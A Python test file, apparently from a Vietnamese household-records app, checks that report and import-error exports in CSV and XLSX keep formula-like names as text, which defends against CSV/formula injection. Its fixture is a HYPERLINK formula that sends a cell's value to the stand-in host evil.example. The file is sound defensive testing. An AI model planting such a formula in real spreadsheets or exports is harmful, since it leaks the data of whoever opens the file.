"""Names typed as formulas stay text in every file handed out (CSV/formula injection)."""

import csv
import io

from openpyxl import load_workbook

from api.core.spreadsheet import csv_text
from api.imports.files import errors_csv, errors_xlsx
from api.reports.tables import Column, Table, to_csv, to_xlsx

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào")'


def table() -> Table:
    return Table(
        title="Cảnh báo",
        filename="canh-bao",
        columns=[Column("head_name", "Họ tên chủ hộ", "text"), Column("score", "Điểm")],
        rows=[{"head_name": EVIL, "score": -5}, {"head_name": "Thạch Văn An", "score": 7}],
    )


def test_a_report_keeps_a_formula_like_name_as_text():
    sheet = load_workbook(io.BytesIO(to_xlsx(table()))).active
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", EVIL)
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("n", -5)
    rows = list(csv.reader(io.StringIO(to_csv(table()).decode("utf-8-sig"))))
    assert rows[1] == ["'" + EVIL, "-5"]
    assert rows[2] == ["Thạch Văn An", "7"]


def test_an_import_errors_file_keeps_it_as_text_too():
    content = {"headers": ["Mã hộ", "Họ tên chủ hộ"], "rows": [(2, ["HA-1", EVIL], "Lỗi", "Error")]}
    sheet = load_workbook(io.BytesIO(errors_xlsx(content))).active
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("s", EVIL)
    rows = list(csv.reader(io.StringIO(errors_csv(content).decode("utf-8-sig"))))
    assert rows[1] == ["HA-1", "'" + EVIL, "Lỗi", "Error"]


def test_numbers_and_plain_text_are_left_alone():
    assert [csv_text(v) for v in ("-5", "+3.5", "Nguyễn", "@x", "-a", 12)] == [
        "-5",
        "+3.5",
        "Nguyễn",
        "'@x",
        "'-a",
        12,
    ]
